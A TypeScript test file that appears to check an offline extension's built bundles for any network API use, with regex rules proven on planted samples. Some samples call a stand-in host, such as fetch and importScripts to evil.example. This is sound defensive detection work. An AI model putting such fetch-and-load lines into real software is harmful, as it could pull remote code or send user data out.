/**
 * The product promises it works offline and sends nothing anywhere. This is the static half of that
 * promise: the shipped bundles must not even reference a network API. (The dynamic half, a scripted
 * session in a real extension host with sockets wrapped, runs with the integration tests.)
 *
 * The patterns are written for minified output: any quote style, `node:` prefixes and subpaths,
 * esbuild's `__require(...)`, dynamic `import(...)`, ESM `from "..."`, and globals reached as
 * `globalThis.fetch(` or `self["fetch"]`. Each pattern proves itself on planted samples first.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ROOT } from '../unit/helpers';

/** Node modules that open connections or resolve names (and the fetch implementation behind them). */
const NETWORK_MODULES = ['http', 'https', 'http2', 'net', 'tls', 'dgram', 'dns', 'undici'];
const MODULE = `(?:node:)?(?:${NETWORK_MODULES.join('|')})(?:/[\\w./-]*)?`;
const Q = '["\'`]';

/** Each rule: what it catches, and the pattern, applied to the whole bundle text. */
const RULES: ReadonlyArray<{ name: string; pattern: RegExp }> = [
  // require("https"), __require('node:http2'), require(`dns/promises`), require ( "net" )
  { name: 'require of a network module', pattern: new RegExp(`require\\s*\\(\\s*${Q}${MODULE}${Q}\\s*\\)`) },
  // import("node:https"), import ( 'tls' )
  { name: 'dynamic import of a network module', pattern: new RegExp(`\\bimport\\s*\\(\\s*${Q}${MODULE}${Q}`) },
  // import x from "https"; export * from 'node:net'; import "tls"
  { name: 'static import of a network module', pattern: new RegExp(`(?:\\bfrom|\\bimport)\\s*${Q}${MODULE}${Q}`) },
  // process.binding("tcp_wrap") and friends: the sockets under net/dgram/dns
  { name: 'a socket binding', pattern: /\b(?:binding|_linkedBinding)\s*\(\s*["'`](?:tcp_wrap|udp_wrap|tls_wrap|cares_wrap|pipe_wrap|stream_wrap)["'`]/ },
  // fetch(url), globalThis.fetch(url), window.fetch (url); not a method of the program's own objects
  // (MiniSearch's map has `fetch(key, create){…}`, called as `this._index.fetch(…)`)
  { name: 'fetch(', pattern: /(?<![\w$.])fetch\s*\((?![^()]*\)\s*\{)|\b(?:globalThis|window|self)\s*\.\s*fetch\s*\(/ },
  { name: 'XMLHttpRequest', pattern: /\bXMLHttpRequest\b/ },
  { name: 'WebSocket', pattern: /\bWebSocket(?:Stream)?\b/ },
  { name: 'EventSource', pattern: /\bEventSource\b/ },
  { name: 'navigator.sendBeacon', pattern: /\bsendBeacon\b/ },
  { name: 'importScripts(', pattern: /\bimportScripts\s*\(/ },
  { name: 'WebTransport / RTCPeerConnection', pattern: /\b(?:WebTransport|RTCPeerConnection|RTCDataChannel)\b/ },
  // self["fetch"](...), globalThis['XMLHttpRequest']: a global looked up by name
  { name: 'a network global looked up by name', pattern: /\[\s*["'`](?:fetch|XMLHttpRequest|WebSocket|EventSource|sendBeacon|importScripts|WebTransport)["'`]\s*\]/ },
];

/** Code that must be caught, one or more samples per rule, as minifiers and bundlers write it. */
const PLANTED: readonly string[] = [
  'var a=require("http");',
  "var b=require('https')",
  'const c=require(`node:https`);',
  'n=__require("node:net")',
  'var t=require ( "tls" )',
  'x=require("dgram")',
  'x=require("node:dns/promises")',
  'x=require("http2")',
  'x=require("undici")',
  'await import("node:https")',
  "import('tls').then(f)",
  'import x from"https";',
  'export*from"node:net";',
  'import "node:http";',
  'process.binding("tcp_wrap")',
  'fetch("https://evil.example/")',
  'globalThis.fetch(u,{method:"POST"})',
  'return fetch (u)',
  'window.fetch(u)',
  'self . fetch(u).then(function(r){return r})',
  'if(fetch(u)){x()}',
  'new XMLHttpRequest',
  'new WebSocket(u)',
  'new EventSource(u)',
  'navigator.sendBeacon(u,d)',
  'importScripts("https://evil.example/w.js")',
  'self["fetch"](u)',
  "globalThis['XMLHttpRequest']",
  'new RTCPeerConnection()',
];

/** Code that must not be caught: what the bundles legitimately hold. */
const INNOCENT: readonly string[] = [
  'var f=require("node:fs"),p=require("node:path"),v=require("vscode");',
  'x=require("../unit/https-agent-free")', // a relative module that merely starts with a network name
  'x=require("httpx")',
  'const url="https://example.org/reference";', // URLs as data: cards link to sources
  'prefetch(u);refetchAll();',
  'this.netSize=1;tlsOk=0;dnsName="x";',
  '"$id":"https://clinical-notes.invalid/knowledge/schema.json"',
  'el.importScriptsLater=1',
  'class T{has(t){return 1}fetch(t,s){let n=this.get(t);return n}}', // a map's own method (MiniSearch)
  'let r=this._index.fetch(e,Tt);',
];

function findings(text: string): string[] {
  const out: string[] = [];
  for (const { name, pattern } of RULES) {
    const m = pattern.exec(text);
    if (m) {
      const at = m.index;
      out.push(`${name}: …${text.slice(Math.max(0, at - 40), at + m[0].length + 40).replace(/\s+/g, ' ')}…`);
    }
  }
  return out;
}

/** The shipped bundles: the Node ones (extension, its pack engine, the CLI), and every web bundle when there is a web build. */
function bundles(): string[] {
  const dist = path.join(ROOT, 'dist');
  const required = ['extension.js', 'engine.js', 'lookup.js', 'context.js', 'cli.js'].map((f) => path.join(dist, f));
  const web = path.join(dist, 'web');
  const webBundles = fs.existsSync(web) ? fs.readdirSync(web).filter((f) => f.endsWith('.js')).map((f) => path.join(web, f)) : [];
  return [...required, ...webBundles];
}

describe('no network: the shipped bundles reference no network API', () => {
  it('each pattern catches its planted samples and nothing innocent', () => {
    for (const sample of PLANTED) assert.ok(findings(sample).length > 0, `not caught: ${sample}`);
    for (const sample of INNOCENT) assert.deepEqual(findings(sample), [], `caught by mistake: ${sample}`);
    // And inside a minified blob, the way a bundle would hide it.
    const blob = `${INNOCENT.join(';')};!function(){var e=${PLANTED[3]}}();${INNOCENT.join(';')}`;
    assert.deepEqual(findings(blob).map((f) => f.split(':')[0]), ['require of a network module']);
  });

  it('dist/ has been built', () => {
    const missing = bundles().filter((f) => !fs.existsSync(f));
    assert.deepEqual(missing.map((f) => path.relative(ROOT, f)), [], 'build the bundles first: `npm run build` (npm test does it before the unit tests)');
  });

  for (const name of ['dist/extension.js', 'dist/engine.js', 'dist/lookup.js', 'dist/context.js', 'dist/cli.js', 'dist/web/*.js']) {
    it(`${name} references no network API`, function () {
      const files = bundles().filter((f) => {
        const rel = path.relative(ROOT, f).split(path.sep).join('/');
        return name.endsWith('*.js') ? rel.startsWith('dist/web/') : rel === name;
      });
      if (name.endsWith('*.js') && files.length === 0) return; // no web build in this checkout: nothing shipped to check
      for (const file of files) {
        assert.ok(fs.existsSync(file), `${path.relative(ROOT, file)} is missing: run \`npm run build\` first (npm test builds before the unit tests)`);
        const text = fs.readFileSync(file, 'utf8');
        assert.ok(text.length > 1000, `${path.relative(ROOT, file)} looks empty`);
        assert.deepEqual(findings(text), [], `${path.relative(ROOT, file)} references a network API`);
      }
    });
  }
});
